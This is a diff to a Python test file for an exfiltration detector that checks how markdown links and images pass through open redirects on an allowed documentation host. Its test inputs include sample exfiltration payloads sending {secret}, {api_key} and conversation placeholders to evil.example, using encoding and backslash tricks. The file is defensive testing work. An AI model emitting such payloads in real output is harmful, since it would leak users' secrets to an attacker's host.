@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import urllib.parse
+
+import pytest
 from detector_helpers import CTX, message
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -124,3 +127,76 @@ def test_documentation_that_asks_for_your_own_key_in_a_url_is_not_a_leak() -> No
     assert _top(docs) < 70
     assert _top("See [the guide][1].\n\n[1]: https://docs.example.com/guide") == 0
     assert _top("![logo][l]\n\n[l]: https://cdn.example.com/logo.png") == 20
+
+
+DOCS = StaticScanContext(allowed_hosts=frozenset({"docs.example.com"}))
+"""A mesh that allows its own documentation host."""
+
+
+@pytest.mark.parametrize(
+    ("text", "at_least"),
+    [
+        pytest.param("![s](https://docs.example.com/out?to=https://evil.example/c?d=ACCOUNT_LEDGER_2026_Q3_FULL_EXPORT_ROWS)",
+                     80, id="image-redirect-param"),
+        pytest.param("![s](https://docs.example.com/out?to=https%3A%2F%2Fevil.example%2Fc%3Fd%3D%7Bsecret%7D)", 80,
+                     id="percent-encoded"),
+        pytest.param("![s](https://docs.example.com/out?to=https%253A%252F%252Fevil.example%252Fc%253Fd%253D%257Bkey%257D)",
+                     80, id="encoded-twice"),
+        pytest.param("![s](https://docs.example.com/login?next=//evil.example/c?d={conversation})", 80,
+                     id="protocol-relative"),
+        pytest.param("![s](https://docs.example.com/r/https://evil.example/{secret})", 80, id="redirect-path"),
+        pytest.param("[details](https://docs.example.com/out?to=https://evil.example/c?q={api_key})", 60,
+                     id="link-not-image"),
+        pytest.param("See https://docs.example.com/out?to=https://evil.example/c?d={api_key} for more.", 50,
+                     id="bare-url"),
+        pytest.param("![s](https://evil.example\\@docs.example.com/c?d={secret})", 80, id="backslash-authority"),
+    ],
+)  # fmt: skip
+def test_an_open_redirect_on_an_allowed_host_is_read_as_where_it_leads(text: str, at_least: int) -> None:
+    """A renderer follows an allowed host's redirect to whatever URL the link carries (in a parameter, the
+    path, percent-encoded once or twice, protocol-relative), and a browser reads ``\\`` in an authority as
+    ``/``: the carried URL is checked as if it were written there, and the finding names the redirect."""
+    (finding,) = ExfiltrationDetector().scan(text, message(text), DOCS)
+    assert finding.severity >= at_least
+    if "\\" not in text:
+        assert "redirected by allowed host docs.example.com to evil.example" in finding.message
+    assert ExfiltrationDetector().scan(text, message(text), StaticScanContext(allowed_hosts=frozenset({"e.example"})))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![s](https://docs.example.com/out?to=https://api.docs.example.com/v1/export?rows=ALL_ROWS_OF_THE_LEDGER_2026)",
+        "![diagram](https://docs.example.com/img/flow.png?v=3)",
+        "[guide](https://docs.example.com/guide?section=install&lang=en#step-2)",
+        "Read https://docs.example.com/search?q=redirect+urls+and+open+redirects+explained+for+beginners today.",
+    ],
+)
+def test_links_that_stay_on_allowed_hosts_pass(text: str) -> None:
+    """A redirect to another allowed host, and ordinary links on an allowed host, are not findings."""
+    assert ExfiltrationDetector().scan(text, message(text), DOCS) == []
+
+
+def test_urls_carried_inside_urls_are_followed_a_bounded_depth() -> None:
+    """Each level is found in the previous one after decoding; at most ``REDIRECT_DEPTH`` levels."""
+    from agentmesh_guard.detectors.exfil import REDIRECT_DEPTH, carried_urls
+
+    url = "https://e5.example/x"
+    for level in range(4, 0, -1):
+        url = f"https://docs.example.com/l{level}?u={urllib.parse.quote(url, safe='')}"
+    found = carried_urls(url)
+    assert len(found) == REDIRECT_DEPTH
+    assert [urllib.parse.urlsplit(u).path for u in found] == ["/l2", "/l3", "/l4"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(["https://", "//", "%2F", "%25", "=", "?", "docs.example.com", "e.x", "\\", "@", "/", "![a](",
+                         ")", " ", "{s}"]),
+        max_size=40,
+    ).map("".join)
+)  # fmt: skip
+def test_redirect_reading_never_raises(text: str) -> None:
+    """Any mix of schemes, slashes, escapes and hosts is read without an exception."""
+    ExfiltrationDetector().scan(text, message(text), DOCS)
